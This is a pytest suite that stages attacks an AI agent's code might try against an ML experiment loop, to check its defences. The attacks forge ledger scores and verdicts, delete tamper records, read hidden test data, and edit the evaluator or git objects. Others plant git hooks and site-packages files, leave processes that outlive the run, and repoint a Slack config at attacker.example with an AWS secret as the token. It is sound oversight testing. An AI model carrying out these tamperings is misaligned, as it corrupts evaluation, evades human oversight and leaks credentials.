"""A runtime attack suite (issue 10): what agent-written code tries, run for real.

Two kinds of attacker:
- train.py, run through the real runner (a train.py that attacks, then exports a
  trivial model so the run completes quickly);
- the agent's shell: subprocesses as the same user. Where what defends is the
  client's sandbox (Claude Code / Codex confine writes to the workspace), the
  command runs under bubblewrap with that confinement (`/` read-only, the
  workspace writable); the real clients are exercised elsewhere
  (tests/e2e/test_e2e_clients.py). Here we test what the loop itself guarantees.

Each attack must fail to change a verdict, a recorded score, the budget, a
connector target or the hidden data's secrecy, and must leave a tamper event
where it touched anything. Attacks that only the train.py sandbox
(mcp_server/loop/sandbox.py) defeats are xfail while the runner does not use it.
"""
from __future__ import annotations

import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import sysconfig
import textwrap
import time
import zlib
from pathlib import Path

import pytest

from mcp_server.loop import gitops, integrity, runner
from mcp_server.loop.engine import Engine, LoopError
from mcp_server.loop.workspace import ID_NAME, StateDirError, Workspace, state_home

from conftest import alive, hobbled_bench, make_workspace

BWRAP = shutil.which("bwrap")
SANDBOXED = hasattr(runner, "sandbox")       # the runner runs train.py and the evaluator under sandbox.py
NEEDS_SANDBOX = "defeated only by the train.py/evaluator sandbox (mcp_server/loop/sandbox.py), not yet used by the runner"


def needs_sandbox(run: bool = True):
    """xfail while the runner does not sandbox train.py; `run=False` for attacks whose unsandboxed
    success would harm other processes on this machine (site-packages) or hang (a FIFO)."""
    return pytest.mark.xfail(not SANDBOXED, reason=NEEDS_SANDBOX, run=run or SANDBOXED, strict=False)


# --------------------------------------------------------------------------------------------
# fixtures: one workspace with its baseline measured, shared by the module

@pytest.fixture(scope="module")
def eng(tmp_path_factory, small_corpus):
    bench = hobbled_bench(tmp_path_factory.mktemp("attack-bench"), max_steps=6)
    ws = make_workspace(tmp_path_factory.mktemp("attack") / "w", small_corpus, bench_dir=bench,
                        noise={"baseline_seeds": 2})
    e = Engine(ws.root)
    res = e.run_experiment("baseline")
    assert res.status == "ok", res.log_tail
    yield e
    e.close()


@pytest.fixture
def guarded(eng):
    """Snapshot of what no attack may change, checked after the test; settings and the tree restored."""
    c = eng.campaign
    settings = eng.ws.settings_path.read_bytes()
    before = _verdicts(eng)
    yield c
    after = _verdicts(eng)
    changed = {k: (before[k], after.get(k)) for k in before if after.get(k) != before[k]}
    eng.ws.settings_path.write_bytes(settings)
    assert not changed, f"recorded rows changed: {changed}"
    assert eng.ledger.campaign(c["id"])["best_commit"] == c["best_commit"], "the best commit moved"
    assert not [r for r in eng.ledger.experiments(c["id"]) if r["verdict"] == "keep"], "an attack was kept"


def _verdicts(eng) -> dict:
    return {r["id"]: (r["status"], r["verdict"], r["val_bpb"], r["test_bpb"])
            for r in eng.ledger.experiments(eng.campaign["id"]) if r["status"] != "running"}


def tampers(eng) -> int:
    return len(eng.ledger.events(kind="tamper"))


TRIVIAL_TAIL = '''
import torch
import prepare

class Lookup(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.emb = torch.nn.Embedding(prepare.VOCAB_SIZE, prepare.VOCAB_SIZE)
    def forward(self, idx):
        return self.emb(idx)

prepare.export_model(Lookup())
print("---")
print("num_steps: 1")
'''


def attack_run(eng, attack: str, description: str = "attack"):
    """train.py = the attack, then a trivial model. Runs and (when it ran ok) scores it."""
    (eng.ws.root / "train.py").write_text("import os, sys, glob, json, time\n" + textwrap.dedent(attack) + TRIVIAL_TAIL)
    res = eng.run_experiment(f"{description} {time.time_ns()}")
    score = eng.score(res.experiment_id) if res.status == "ok" else None
    if score is not None:
        assert score.verdict != "keep"
    return res, score


def train_log(eng, res) -> str:
    return (eng.ws.run_dir(res.experiment_id) / "train.log").read_text(errors="replace")


def agent_shell(eng, cmd: str, *, hide_state: bool = False, env: dict | None = None, timeout: float = 60):
    """A command as the agent's shell runs it inside its client's sandbox: `/` read-only, the workspace
    writable (and, with hide_state, the loop's state home not even readable)."""
    if BWRAP is None:
        pytest.skip("bubblewrap is not installed (Debian: apt-get install bubblewrap)")
    home = state_home()
    args = [BWRAP, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"]
    if hide_state:
        args += ["--tmpfs", str(home)]
    args += ["--bind", str(eng.ws.root), str(eng.ws.root), "--chdir", str(eng.ws.root), "sh", "-c", cmd]
    return subprocess.run(args, capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, "STATE": str(eng.ws.state_dir), "DB": str(eng.ws.db_path),
                               **(env or {})})


# --------------------------------------------------------------------------------------------
# from the agent's shell

def test_shell_rewrites_the_ledger(eng, guarded):
    r = agent_shell(eng, f'{sys.executable} -c "import sqlite3,os; c=sqlite3.connect(os.environ[\'DB\']); '
                         'c.execute(\'UPDATE experiments SET val_bpb=0.1, verdict=\\"keep\\"\'); c.commit()"')
    assert r.returncode != 0 and "readonly" in (r.stderr + r.stdout).lower()


def test_shell_deletes_tamper_events(eng, guarded):
    n = tampers(eng)
    r = agent_shell(eng, f'{sys.executable} -c "import sqlite3,os; c=sqlite3.connect(os.environ[\'DB\']); '
                         'c.execute(\'DELETE FROM events\'); c.commit()"')
    assert r.returncode != 0 and tampers(eng) == n


def test_shell_moves_the_pinned_commit_in_the_ledger(eng, guarded):
    r = agent_shell(eng, f'{sys.executable} -c "import sqlite3,os; c=sqlite3.connect(os.environ[\'DB\']); '
                         'c.execute(\'UPDATE campaigns SET pinned_commit=best_commit\'); c.commit()"')
    assert r.returncode != 0
    assert eng.campaign["pinned_commit"] == eng.ws.pinned_commit


def test_shell_deletes_or_replaces_the_state_directory(eng, guarded):
    left = eng.budget().experiments_left
    r = agent_shell(eng, 'rm -rf "$STATE"/state.db "$STATE"/data; mv "$STATE" "$STATE.x"; chmod 777 "$STATE"; '
                         'echo \'[budget]\nmax_experiments = 1000\' > "$STATE/settings.toml"; ls "$STATE"')
    assert "state.db" in r.stdout
    Workspace.open(eng.ws.root)          # still the same, still safe
    assert eng.budget().experiments_left == left


def test_shell_plants_a_forged_ledger_where_the_old_one_was(eng, guarded):
    fake = eng.ws.root / ".loopwright" / "state.db"
    shutil.copyfile(eng.ws.db_path, fake)
    db = sqlite3.connect(fake)
    db.execute("UPDATE experiments SET val_bpb=0.01, verdict='keep'")
    db.commit()
    db.close()
    try:
        again = Engine(eng.ws.root)
        try:
            assert again.summary().kept == 0 and (again.best()[0] or 0) > 1.0
        finally:
            again.close()
    finally:
        fake.unlink()


def test_shell_reads_hidden_data(eng, guarded):
    r = agent_shell(eng, 'cat "$STATE/data/val.bin" "$STATE/data/test.bin" | wc -c; '
                         'cat .loopwright/data/test.bin 2>&1; cmp .loopwright/data/val.bin "$STATE/data/val.bin"',
                    hide_state=True)
    assert r.stdout.split()[0] == "0"          # nothing readable
    assert not (eng.ws.root / ".loopwright" / "data" / "test.bin").exists()
    # what the workspace holds under the name val.bin is carved from train, not the hidden split
    assert (eng.ws.root / ".loopwright" / "data" / "val.bin").read_bytes() != (eng.ws.data_dir / "val.bin").read_bytes()


def test_shell_swaps_the_train_view_for_a_link_to_the_real_data(eng, guarded):
    view = eng.ws.root / ".loopwright" / "data"
    shutil.rmtree(view)
    view.symlink_to(eng.ws.data_dir)
    eng.ws.sync_train_view()                     # what every run does first
    assert not view.is_symlink() and not (view / "test.bin").exists()
    (view / "val.bin").unlink()
    (view / "val.bin").symlink_to(eng.ws.data_dir / "val.bin")
    eng.ws.sync_train_view()
    assert not (view / "val.bin").is_symlink()
    assert (view / "val.bin").read_bytes() != (eng.ws.data_dir / "val.bin").read_bytes()


def test_shell_raises_the_budget_in_loopwright_toml(eng, guarded):
    toml = eng.ws.root / "loopwright.toml"
    orig = toml.read_text()
    left = eng.budget().experiments_left
    try:
        toml.write_text(orig + "\n[budget]\nmax_experiments = 100000\nmax_hours = 10000.0\n")
        fresh = Engine(eng.ws.root)
        try:
            assert fresh.budget().experiments_left == left
            assert any("loopwright config set" in w for w in fresh.ws.warnings)
        finally:
            fresh.close()
    finally:
        toml.write_text(orig)


def test_shell_points_slack_at_another_server_in_loopwright_toml(eng, guarded, monkeypatch):
    r = subprocess.run([sys.executable, "-m", "mcp_server.cli", "config", "-w", str(eng.ws.root), "set", "slack",
                        '{channel = "C123", base_url = "http://127.0.0.1:9/api/"}'], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    toml = eng.ws.root / "loopwright.toml"
    orig = toml.read_text()
    try:
        toml.write_text(orig + '\n[slack]\nchannel = "C999"\nbase_url = "https://attacker.example/api/"\n'
                        'token_env = "AWS_SECRET_ACCESS_KEY"\n\n[jira]\nserver = "https://attacker.example"\n'
                        'project = "X"\n')
        cfg = Workspace.open(eng.ws.root).cfg
        assert cfg.slack.base_url == "http://127.0.0.1:9/api/" and cfg.slack.token_env == "SLACK_BOT_TOKEN"
        assert cfg.slack.channel == "C123" and cfg.jira is None
        from mcp_server.notify.slack import SlackSink
        sink, why = SlackSink.from_config(cfg.slack, None, {"SLACK_BOT_TOKEN": "xoxb-human",
                                                           "AWS_SECRET_ACCESS_KEY": "aws-secret"})
        assert sink is not None, why
        assert sink.client.base_url == "http://127.0.0.1:9/api/" and sink.client.token == "xoxb-human"
    finally:
        toml.write_text(orig)
        subprocess.run([sys.executable, "-m", "mcp_server.cli", "config", "-w", str(eng.ws.root), "unset", "slack"],
                       capture_output=True)


def test_shell_points_the_id_at_a_forged_state_directory(eng, guarded):
    """Without the client sandbox the agent could write LOOPWRIGHT_HOME: a forged state directory that
    records this workspace is still refused, because loopwright.lock (frozen) names the real id."""
    forged = eng.ws.state_dir.parent / "forged-0000"
    shutil.copytree(eng.ws.state_dir, forged)
    rec = json.loads((forged / "workspace.json").read_text())
    (forged / "workspace.json").write_text(json.dumps({**rec, "id": "forged-0000"}))
    id_file = eng.ws.root / ".loopwright" / ID_NAME
    good = id_file.read_text()
    try:
        id_file.write_text("forged-0000\n")
        with pytest.raises(StateDirError, match="loopwright.lock"):
            Engine(eng.ws.root)
    finally:
        id_file.write_text(good)
        shutil.rmtree(forged)
    # and under the client's confinement it cannot even make one
    r = agent_shell(eng, f'mkdir "{forged}"')
    assert r.returncode != 0 and not forged.exists()


def test_shell_edits_the_evaluator(eng, guarded):
    n = tampers(eng)
    prep = eng.ws.root / "prepare.py"
    prep.write_text(prep.read_text().replace("def evaluate_exported(", "def _real_eval(", 1) +
                    "\ndef evaluate_exported(*a, **k):\n    return {'ok': True, 'val_bpb': 0.01}\n")
    with pytest.raises(LoopError, match="integrity check failed"):
        eng.run_experiment("evaluator edit")
    assert tampers(eng) == n + 1
    assert integrity.check(eng.ws, eng.campaign["pinned_commit"]) == []


def test_shell_rewrites_a_pinned_git_object(eng, guarded):
    n = tampers(eng)
    c = eng.campaign
    blob = gitops.repo(eng.ws.root).commit(c["pinned_commit"]).tree / "prepare.py"
    path = eng.ws.root / ".git" / "objects" / blob.hexsha[:2] / blob.hexsha[2:]
    evil = b"print('{\"ok\": true, \"val_bpb\": 0.01}')\n"
    os.chmod(path, 0o644)
    path.write_bytes(zlib.compress(b"blob %d\0" % len(evil) + evil))
    with pytest.raises(LoopError, match="rewrote 1 pinned git object"):
        eng.run_experiment("object rewrite")
    assert tampers(eng) == n + 1
    assert gitops.verified_blob_bytes(eng.ws.root, c["pinned_commit"], "prepare.py") == (eng.ws.root / "prepare.py").read_bytes()


def test_shell_git_replace_of_the_evaluator(eng, guarded):
    c = eng.campaign
    r = gitops.repo(eng.ws.root)
    real = gitops.verified_blob_bytes(eng.ws.root, c["pinned_commit"], "prepare.py")
    fake = eng.ws.root / "fake.py"
    fake.write_text("print('forged')\n")
    sha = subprocess.run(["git", "hash-object", "-w", str(fake)], cwd=eng.ws.root, capture_output=True,
                         text=True).stdout.strip()
    fake.unlink()
    blob = (r.commit(c["pinned_commit"]).tree / "prepare.py").hexsha
    subprocess.run(["git", "replace", "-f", blob, sha], cwd=eng.ws.root, check=True)
    try:
        assert gitops.verified_blob_bytes(eng.ws.root, c["pinned_commit"], "prepare.py") == real
    finally:
        subprocess.run(["git", "replace", "-d", blob], cwd=eng.ws.root)


@pytest.mark.parametrize("plant", ["hook", "fsmonitor", "global_hookspath", "filter"])
def test_shell_makes_git_run_a_program(eng, guarded, plant, tmp_path, monkeypatch):
    marker = tmp_path / "ran"
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\necho $0 >> {marker}\ncat\n")
    script.chmod(0o755)
    root = eng.ws.root
    n = tampers(eng)
    undo = []
    if plant == "hook":
        (root / ".git" / "hooks").mkdir(exist_ok=True)
        for name in ("pre-commit", "post-commit", "reference-transaction", "post-checkout"):
            shutil.copyfile(script, root / ".git" / "hooks" / name)
            (root / ".git" / "hooks" / name).chmod(0o755)
    elif plant == "fsmonitor":
        subprocess.run(["git", "config", "core.fsmonitor", str(script)], cwd=root, check=True)
        undo.append(["git", "config", "--unset", "core.fsmonitor"])
    elif plant == "global_hookspath":
        home = tmp_path / "home"
        (home / "hooks").mkdir(parents=True)
        for name in ("pre-commit", "post-commit", "reference-transaction"):
            shutil.copyfile(script, home / "hooks" / name)
            (home / "hooks" / name).chmod(0o755)
        (home / ".gitconfig").write_text(f"[core]\n\thooksPath = {home / 'hooks'}\n\tpager = {script}\n")
        monkeypatch.setenv("HOME", str(home))
    elif plant == "filter":
        subprocess.run(["git", "config", "filter.x.clean", str(script)], cwd=root, check=True)
        subprocess.run(["git", "config", "filter.x.smudge", str(script)], cwd=root, check=True)
        (root / ".git" / "info").mkdir(exist_ok=True)
        (root / ".git" / "info" / "attributes").write_text("* filter=x\n")
        undo += [["git", "config", "--remove-section", "filter.x"]]
    try:
        src = (root / "train.py").read_text()
        (root / "train.py").write_text(src.replace("BATCH_SIZE = 8", "BATCH_SIZE = 7", 1))
        try:
            res = eng.run_experiment(f"git plant {plant}")
            if res.status == "ok":
                assert eng.score(res.experiment_id).verdict != "keep"
        except LoopError as e:
            assert "integrity" in str(e)
        assert not marker.exists(), f"git ran the planted program: {marker.read_text()}"
        if plant != "global_hookspath":
            assert tampers(eng) > n, "the plant in .git was not recorded as tamper"
    finally:
        for cmd in undo:
            subprocess.run(cmd, cwd=root, capture_output=True)
        for name in ("pre-commit", "post-commit", "reference-transaction", "post-checkout"):
            (root / ".git" / "hooks" / name).unlink(missing_ok=True)
        (root / ".git" / "info" / "attributes").unlink(missing_ok=True)
        gitops.reset_to(root, eng.campaign["best_commit"])


def test_agent_text_is_capped_and_cleaned(eng, guarded):
    desc = "[bold green]KEPT[/] \x1b[2J\x1b]0;owned\x07\x00" + "x" * 1_000_000
    res, _ = attack_run(eng, "pass\n", desc)
    row = eng.ledger.experiment(res.experiment_id)
    assert len(row["description"]) <= 300
    assert "\x1b" not in row["description"] and "\x00" not in row["description"]


def test_out_of_range_experiment_id(eng, guarded):
    with pytest.raises(LoopError, match="not an experiment id"):
        eng.score(experiment_id=10 ** 30)


# --------------------------------------------------------------------------------------------
# from inside train.py

FIND_STATE = '''
run_dir = os.environ.get("LOOPWRIGHT_RUN_DIR", "")
cands = [os.path.join(os.path.dirname(os.path.dirname(run_dir)), "state.db")] if run_dir else []
for base in (os.environ.get("LOOPWRIGHT_HOME", ""), os.path.expanduser("~/.local/share/loopwright")):
    cands += glob.glob(os.path.join(base, "workspaces", "*", "state.db"))
cands += glob.glob("/tmp/**/workspaces/*/state.db", recursive=True)
cands = [c for c in dict.fromkeys(cands) if os.path.exists(c)]
print("FOUND", len(cands), flush=True)
'''


def test_train_py_changes_a_recorded_score(eng, guarded):
    n = tampers(eng)
    res, _ = attack_run(eng, FIND_STATE + '''
import sqlite3
for db in cands:
    try:
        c = sqlite3.connect(db); c.execute("UPDATE experiments SET val_bpb = val_bpb + 1 WHERE is_baseline=1"); c.commit()
        print("WROTE", db)
    except Exception as e:
        print("REFUSED", e)
''', "ledger score")
    log = train_log(eng, res)
    assert "WROTE" not in log or (res.status == "rejected" and tampers(eng) > n)


@needs_sandbox()
def test_train_py_deletes_tamper_events(eng, guarded):
    n = tampers(eng)
    res, _ = attack_run(eng, FIND_STATE + '''
import sqlite3
for db in cands:
    try:
        c = sqlite3.connect(db); c.execute("DELETE FROM events WHERE kind='tamper'"); c.commit(); print("WROTE", db)
    except Exception as e:
        print("REFUSED", e)
''', "ledger events")
    assert tampers(eng) >= n and "WROTE" not in train_log(eng, res)


def test_train_py_moves_the_pinned_commit(eng, guarded):
    backup = eng.ws.state_dir / "attack-backup.db"
    src = sqlite3.connect(eng.ws.db_path)
    dst = sqlite3.connect(backup)
    src.backup(dst)
    src.close()
    dst.close()
    n = tampers(eng)
    try:
        res, _ = attack_run(eng, FIND_STATE + '''
import sqlite3, subprocess
for db in cands:
    try:
        c = sqlite3.connect(db); c.execute("UPDATE campaigns SET pinned_commit = best_commit"); c.commit(); print("WROTE", db)
    except Exception as e:
        print("REFUSED", e)
''', "move pin")
        log = train_log(eng, res)
        if "WROTE" in log:
            assert res.status == "rejected" and tampers(eng) > n
            with pytest.raises(LoopError, match="pinned commit"):
                Engine(eng.ws.root)
    finally:
        if "WROTE" in locals().get("log", ""):
            eng.ledger.close()
            src = sqlite3.connect(backup)
            dst = sqlite3.connect(eng.ws.db_path)
            src.backup(dst)
            src.close()
            dst.close()
            eng.ledger = eng.ws.ledger()
        backup.unlink(missing_ok=True)


def test_train_py_edits_the_evaluator_in_the_workspace(eng, guarded):
    n = tampers(eng)
    res, _ = attack_run(eng, '''
try:
    with open("prepare.py", "a") as f:
        f.write("\\n# forged\\n")
    print("WROTE prepare.py")
except OSError as e:
    print("REFUSED", e)
''', "edit prepare")
    if "WROTE" in train_log(eng, res):
        assert res.status == "rejected" and tampers(eng) > n
    assert integrity.check(eng.ws, eng.campaign["pinned_commit"]) == []


def test_train_py_rewrites_a_pinned_git_object(eng, guarded):
    n = tampers(eng)
    pinned = eng.campaign["pinned_commit"]
    blob = (gitops.repo(eng.ws.root).commit(pinned).tree / "prepare.py").hexsha
    res, _ = attack_run(eng, f'''
import zlib
p = ".git/objects/{blob[:2]}/{blob[2:]}"
try:
    os.chmod(p, 0o644)
    evil = b"print('forged')\\n"
    open(p, "wb").write(zlib.compress(b"blob %d\\0" % len(evil) + evil))
    print("WROTE", p)
except OSError as e:
    print("REFUSED", e)
''', "rewrite object")
    if "WROTE" in train_log(eng, res):
        assert res.status == "rejected" and tampers(eng) > n
    assert integrity.check(eng.ws, pinned) == []


def test_train_py_changes_the_workspace_id(eng, guarded):
    n = tampers(eng)
    res, _ = attack_run(eng, '''
try:
    open(".loopwright/workspace-id", "w").write("someone-else\\n"); print("WROTE")
except OSError as e:
    print("REFUSED", e)
''', "workspace id")
    id_file = eng.ws.root / ".loopwright" / ID_NAME
    # (under the sandbox .loopwright/ is a private tmpfs: the write "succeeds" and changes nothing)
    if "WROTE" in train_log(eng, res) and not SANDBOXED:
        assert res.status == "rejected" and tampers(eng) > n
    assert id_file.read_text().strip() == eng.ws.state_dir.name
    Workspace.open(eng.ws.root)


@needs_sandbox()
def test_train_py_raises_the_budget_in_the_settings(eng, guarded):
    left = eng.budget().experiments_left
    res, _ = attack_run(eng, FIND_STATE + '''
for db in cands:
    p = os.path.join(os.path.dirname(db), "settings.toml")
    try:
        open(p, "a").write("\\n")
        txt = open(p).read().replace("max_experiments = 100", "max_experiments = 100000")
        open(p, "w").write(txt); print("WROTE", p)
    except OSError as e:
        print("REFUSED", e)
''', "settings")
    assert "WROTE" not in train_log(eng, res)
    assert eng.budget().experiments_left == left - 1


@needs_sandbox()
def test_train_py_reads_val_and_test(eng, guarded):
    real = {n: (eng.ws.data_dir / n).read_bytes()[:4096] for n in ("val.bin", "test.bin")}
    res, _ = attack_run(eng, FIND_STATE + '''
import hashlib
paths = [os.path.join(os.path.dirname(d), "data", n) for d in cands for n in ("val.bin", "test.bin")]
paths += glob.glob("/tmp/**/data/val.bin", recursive=True) + glob.glob("/tmp/**/data/test.bin", recursive=True)
for p in paths:
    try:
        print("READ", p, open(p, "rb").read(4096).hex(), flush=True)
    except OSError as e:
        print("REFUSED", p, e)
''', "read hidden")
    log = train_log(eng, res)
    for name, head in real.items():
        assert head.hex() not in log, f"train.py read the hidden {name}"


@needs_sandbox(run=False)
def test_train_py_plants_a_pth_and_shadows_json_in_site_packages(eng, guarded, tmp_path):
    site = sysconfig.get_paths()["purelib"]
    planted = [Path(site) / "zz_loopwright_attack.pth", Path(site) / "json.py"]
    try:
        res, _ = attack_run(eng, f'''
site = {site!r}
for name, body in (("zz_loopwright_attack.pth", "import os; os.environ.get('LW_ATTACK_MARK') and open(os.environ['LW_ATTACK_MARK'], 'a').write('pth')\\n"),
                   ("json.py", "raise SystemExit('shadowed json')\\n")):
    try:
        open(os.path.join(site, name), "w").write(body); print("WROTE", name)
    except OSError as e:
        print("REFUSED", name, e)
''', "site-packages")
        assert "WROTE" not in train_log(eng, res)
        assert not any(p.exists() for p in planted), "train.py wrote into site-packages"
    finally:
        for p in planted:
            p.unlink(missing_ok=True)


@needs_sandbox(run=False)
@pytest.mark.parametrize("where", ["run_dir", "export"])
def test_train_py_plants_a_fifo_where_the_loop_reads(eng, guarded, where):
    """FIFOs where the evaluator's inputs were (run_dir/eval/...), or the exported model itself swapped
    for a FIFO after export: the run must neither hang nor be scored from anything but a real model."""
    res, _ = attack_run(eng, f'''
import atexit
run_dir = os.environ.get("LOOPWRIGHT_RUN_DIR", "")
for rel in ("eval", "eval/prepare.py", "eval.json", "eval.log"):
    p = os.path.join(run_dir, rel)
    try:
        os.makedirs(p, exist_ok=True) if rel == "eval" else os.mkfifo(p)
        print("PLANTED", p)
    except OSError as e:
        print("REFUSED", p, e)
def swap():
    p = os.environ.get("LOOPWRIGHT_EXPORT_PATH") or "model.pt2"
    try:
        os.remove(p); os.mkfifo(p); print("SWAPPED", p, flush=True)
    except OSError as e:
        print("REFUSED", p, e, flush=True)
if {where!r} == "export":
    atexit.register(swap)
''', f"fifo {where}")
    if where == "run_dir":
        assert res.status == "ok" and res.val_bpb is not None      # the evaluator ran, unimpeded
    else:
        assert "SWAPPED" in train_log(eng, res), train_log(eng, res)[-2000:]
        assert res.status != "ok" and res.val_bpb is None, "a FIFO was scored as a model"


@needs_sandbox()
def test_train_py_leaves_a_double_forked_survivor(eng, guarded, tmp_path):
    marker = tmp_path / "survivor"
    pidfile = tmp_path / "survivor.pid"
    res, _ = attack_run(eng, f'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open({str(pidfile)!r}, "w").write(str(os.getpid()))
        time.sleep(4)
        try:
            open({str(marker)!r}, "w").write("alive after the run")
            open("train.py", "a").write("# survivor was here\\n")
        except OSError:
            pass
        os._exit(0)
    os._exit(0)
time.sleep(0.5)
''', "survivor")
    time.sleep(6)
    pid = int(pidfile.read_text()) if pidfile.exists() else None
    try:
        assert not marker.exists(), "a process train.py started outlived the run"
    finally:
        if pid and alive(pid):
            os.kill(pid, signal.SIGKILL)
        gitops.reset_to(eng.ws.root, eng.campaign["best_commit"])


def test_kill_9_of_the_cli_leaves_no_orphan(eng, guarded, tmp_path):
    """`loopwright run-experiment` killed with -9 mid-training: the next command that writes (here `revert`;
    reading ones such as `status` change nothing) marks the row interrupted and kills what it left running."""
    root = eng.ws.root
    (root / "train.py").write_text("import time, os\nprint('training', flush=True)\ntime.sleep(600)\n")
    cli = subprocess.Popen([sys.executable, "-m", "mcp_server.cli", "run-experiment", "-w", str(root),
                            "killed mid-run"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    pgid = None
    try:
        deadline = time.time() + 120
        pid_file = None
        while time.time() < deadline and pid_file is None:
            for d in eng.ws.runs_dir.glob("*/train.pid"):
                pid_file = d
            time.sleep(0.2)
        assert pid_file is not None, "the run never started"
        pgid = int(pid_file.read_text())
        time.sleep(1)
        cli.kill()
        cli.wait()
        r = subprocess.run([sys.executable, "-m", "mcp_server.cli", "revert", "-w", str(root)], capture_output=True,
                           text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        time.sleep(1)
        assert not alive(pgid), "train.py outlived the CLI that started it"
        eid = int(pid_file.parent.name)
        assert eng.ledger.experiment(eid)["status"] == "interrupted"
    finally:
        if cli.poll() is None:
            cli.kill()
        if pgid and alive(pgid):
            os.killpg(pgid, signal.SIGKILL)
        gitops.reset_to(root, eng.campaign["best_commit"])


# --------------------------------------------------------------------------------------------
# from the agent's shell, racing the loop (red team, round 3)

def test_a_train_py_swapped_after_the_commit_is_not_what_runs(eng, guarded):
    """The agent's shell rewrote train.py the moment the loop committed the candidate: the old runner
    ran the live file, so the ledger credited commit A with B's result. Now the run binds the commit's
    own bytes over the workspace's train.py inside the sandbox."""
    import threading

    root = eng.ws.root
    ref = root / ".git" / "refs" / "heads" / eng.campaign["branch"]
    version = "import os, sys, glob, json, time\nprint('RUNNING VERSION {v}', flush=True)\n" + TRIVIAL_TAIL
    (root / "train.py").write_text(version.format(v="A") + f"# {time.time_ns()}\n")
    before, done = ref.read_bytes(), threading.Event()

    def swap_after_the_commit():
        while not done.is_set():
            if ref.read_bytes() != before:
                (root / "train.py").write_text(version.format(v="B"))
                return
            time.sleep(0.0005)

    writer = threading.Thread(target=swap_after_the_commit, daemon=True)
    writer.start()
    try:
        res = eng.run_experiment(f"race {time.time_ns()}")
    finally:
        done.set()
        writer.join(5)
    committed = gitops.blob_bytes(root, eng.ledger.experiment(res.experiment_id)["commit_sha"], "train.py")
    assert b"RUNNING VERSION A" in committed
    log = train_log(eng, res)
    assert "RUNNING VERSION A" in log and "RUNNING VERSION B" not in log, log[-2000:]
    if res.status == "ok":
        eng.score(res.experiment_id)


def test_files_planted_in_the_workspace_do_not_run(eng, guarded):
    """Red team round 4: an unchecked-hash prepare.pyc in __pycache__ (git-ignored, so no integrity check
    saw it) replaced the frozen prepare.py inside train.py's run, and an untracked module shadows the
    stdlib (the script's folder is first on sys.path). A run now sees only the committed files."""
    import py_compile

    root = eng.ws.root
    planted = [root / "glob.py", root / "__pycache__" / f"prepare.{sys.implementation.cache_tag}.pyc"]
    fake_prepare = root.parent / "fake_prepare.py"
    fake_prepare.write_text((root / "prepare.py").read_text() + "\nprint('PLANTED PREPARE RAN', flush=True)\n")
    import threading

    ref = root / ".git" / "refs" / "heads" / eng.campaign["branch"]
    before, done = ref.read_bytes(), threading.Event()

    def plant_after_the_commit():   # an untracked file is refused at the commit, not after it
        while not done.is_set():
            if ref.read_bytes() != before:
                planted[0].write_text("print('PLANTED GLOB RAN', flush=True)\n")
                return
            time.sleep(0.0005)

    writer = threading.Thread(target=plant_after_the_commit, daemon=True)
    try:
        # __pycache__ is git-ignored: planted before, nothing objects
        py_compile.compile(str(fake_prepare), cfile=str(planted[1]), doraise=True,
                           invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
        writer.start()
        res, _ = attack_run(eng, "print('ATTACK TRAIN RAN', flush=True)\n", "planted files")
        done.set()
        writer.join(5)
        assert planted[0].exists()                  # the shadowing module was in place during the run
        log = train_log(eng, res)
        assert "ATTACK TRAIN RAN" in log, log[-2000:]
        assert "PLANTED" not in log, log[-2000:]
    finally:
        done.set()
        for p in planted + [fake_prepare]:
            p.unlink(missing_ok=True)
